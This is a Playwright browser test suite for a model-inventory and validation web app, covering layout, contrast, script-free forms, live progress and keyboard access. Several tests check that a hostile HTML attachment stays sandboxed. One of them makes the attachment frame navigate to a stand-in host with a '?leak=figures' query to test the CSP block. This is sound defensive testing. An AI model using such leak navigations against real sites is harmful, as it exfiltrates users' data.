"""Pages in a browser: nothing blocked, legible in both schemes, whole on a phone, with and without scripts."""

import json
import re
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from tests.browser.conftest import Site
from tests.browser.seed_site import HOSTILE

pytestmark = pytest.mark.browser
CONTRAST = (Path(__file__).parent / "contrast.js").read_text(encoding="utf-8")
CAST = ("vera", "owen", "ada", "iris", "rex")
Visit = Callable[..., Page]


@pytest.mark.parametrize("username", CAST)
@pytest.mark.parametrize(
    ("scheme", "width"), [("light", 1280), ("dark", 1280), ("light", 390), ("dark", 390)]
)
def test_every_page_is_whole_legible_and_clean(
    visit: Visit, site: Site, username: str, scheme: str, width: int
) -> None:
    page = visit(username, color_scheme=scheme, viewport={"width": width, "height": 900})
    said: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        # The browser itself notes that the page of an unknown model answers 404.
        if message.type in ("error", "warning") and "404" not in message.text:
            said.append(message.text)

    page.on("console", hear)
    page.on("pageerror", lambda error: said.append(str(error)))
    for address in site.pages[username]:
        page.goto(address)
        overflow = page.evaluate(
            "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        )
        assert (address, overflow) == (address, 0)
        assert (address, page.evaluate(CONTRAST)) == (address, [])
    assert said == []


def test_a_facet_changes_the_list_in_place_and_the_address_with_it(visit: Visit) -> None:
    page = visit("vera")
    page.goto("/models/")
    page.evaluate("window.stayed = true")
    page.click("#facet-tier-1")
    expect(page.locator("#results tbody tr")).to_have_count(1)
    assert page.evaluate("window.stayed") is True
    assert page.url.endswith("/models/?tier=1")
    assert "under the filters chosen" in page.inner_text("#result-status")
    page.fill("#search", "nothing like it")
    page.click("main form button")
    page.wait_for_selector("text=No model matches")
    page.go_back()
    expect(page.locator("#results tbody tr")).to_have_count(1)


def test_everything_works_without_scripts(visit: Visit) -> None:
    page = visit("vera", java_script_enabled=False)
    page.goto("/models/")
    page.click("#facet-tier-1")
    assert page.locator("#results tbody tr").count() == 1
    page.fill("#search", "cards")
    page.click("main form button")
    assert "search=cards" in page.url
    page.click("#results tbody th a")
    assert "17 fields" in page.inner_text("main")


def test_a_calculation_is_filled_sent_and_read_without_scripts(visit: Visit) -> None:
    page = visit("vera", java_script_enabled=False)
    page.goto("/capital/")
    page.click("text=Output floor of an entity")
    page.click("text=The bank of the worked example, full floor")
    assert "floored RWA is EUR 101.50" in page.inner_text("#result")
    page.fill("#in-as_of", "2027-01-01")
    page.select_option("#in-with_transitional_cap", "true")
    page.click("main form button")
    assert "with_transitional_cap=true" in page.url
    assert "floored RWA is EUR 95.00" in page.inner_text("#result")


def test_a_live_run_shows_a_check_as_soon_as_it_is_recorded(visit: Visit, site: Site) -> None:
    page = visit("vera")
    page.goto(f"/runs/{site.running}/")
    assert "2 of 13 checks done" in page.inner_text("#progress-heading")
    page.evaluate("document.getElementById('step').dataset.first = 'yes'")
    page.focus("#cancel-run")
    with sqlite3.connect(site.var_dir / "mrm.sqlite3", timeout=20) as database:
        database.execute(
            "INSERT INTO validation_check_record"
            " (run_id, check_id, check_major, position, title, verdict, result, recorded_at)"
            " SELECT run_id, 'drift.score', 1, 9, 'Score drift', 'pass', result, recorded_at"
            " FROM validation_check_record LIMIT 1"
        )
    expect(page.locator("#progress-heading")).to_contain_text("3 of 13", timeout=8000)
    # The region that announces is still the same element: it hears of the step and not of each renewal.
    expect(page.locator("#step[data-first=yes][role=status]")).to_contain_text("3 of 13")
    assert page.locator("#step").count() == 1
    assert page.evaluate("document.activeElement.id") == "cancel-run"


EXPECTED = {
    "ran": "yes",
    **dict.fromkeys(("cookie", "storage", "parent", "top", "deface", "fetch", "image"), "refused"),
    "origin": "null",
    "popup": "false",
}


def test_a_hostile_attachment_runs_shut_in(visit: Visit, site: Site) -> None:
    page = visit("vera")
    page.goto(site.hostile)
    address, title = page.url, page.title()
    frame = page.frame_locator("iframe.attachment")
    expect(frame.locator("#out")).not_to_be_empty(timeout=8000)
    told = json.loads(frame.locator("#out").inner_text())
    assert {name: told.get(name) for name in EXPECTED} == EXPECTED
    # Its form and its attempt to lead the whole page elsewhere came to nothing; the session still holds.
    assert (page.url, page.title()) == (address, title)
    page.goto("/models/")
    assert "Sign out" in page.inner_text("body")


def test_a_hostile_attachment_cannot_be_opened_alone_only_kept(visit: Visit, site: Site) -> None:
    page = visit("vera")
    page.goto("/models/")
    with page.expect_download() as kept:
        page.evaluate("address => { location.href = address; }", f"{site.hostile}content/")
    assert kept.value.suggested_filename == "evidently-drift.html"
    assert "Model inventory" in page.inner_text("h1")


def test_a_hostile_attachment_cannot_leave_its_frame_for_another_site(visit: Visit, site: Site) -> None:
    page = visit("vera")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(site.hostile)
    expect(page.frame_locator("iframe.attachment").locator("#out")).not_to_be_empty(timeout=8000)
    (frame,) = page.frames[1:]
    with page.expect_console_message(lambda said: "frame-src" in said.text, timeout=8000):
        frame.evaluate("() => { location.href = 'http://example.invalid/?leak=figures'; }")
    assert not [url for url in asked if "example.invalid" in url]


def test_a_report_is_asked_for_by_keyboard_followed_and_opened_shut_in(visit: Visit, site: Site) -> None:
    page = visit("vera")
    page.goto(f"/evidence/{site.drift}/")
    button = page.get_by_role("button", name="Ask for the report")
    expect(button).to_have_accessible_description(re.compile("Nobody has asked for it"))
    button.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#main")).to_contain_text("A worker makes the report.")
    expect(page.locator("#step[role=status]")).to_contain_text("0 of 1 checks done; waiting for a worker")
    site.make_report(site.drift, HOSTILE.encode())
    # The page of the run loads itself again when the run has ended.
    page.get_by_role("link", name="Open the report").click(timeout=15000)
    frame = page.frame_locator("iframe.attachment")
    expect(frame.locator("#out")).not_to_be_empty(timeout=8000)
    told = json.loads(frame.locator("#out").inner_text())
    assert {name: told.get(name) for name in EXPECTED} == EXPECTED
    page.get_by_role("link", name="The evidence record of drift.data").click()
    assert "Made later" in page.inner_text("#library-report")


def test_the_contrast_check_sees_faint_text(visit: Visit) -> None:
    page = visit("vera")
    page.goto("/models/")
    page.evaluate("document.querySelector('h1').style.setProperty('color', '#c8c8c8')")
    assert [found.split(" ", 1)[1] for found in page.evaluate(CONTRAST)] == ['H1 "Model inventory"']


def test_the_keyboard_reaches_the_content_first(visit: Visit) -> None:
    page = visit("vera")
    page.goto("/models/")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"


def test_targets_are_large_enough_to_hit(visit: Visit, site: Site) -> None:
    page = visit("vera", viewport={"width": 390, "height": 900})
    page.goto("/models/")
    heights = page.eval_on_selector_all(
        "nav a, button, .facets a",
        "all => all.filter(e => e.checkVisibility()).map(e => e.getBoundingClientRect().height)",
    )
    assert min(heights) >= 24
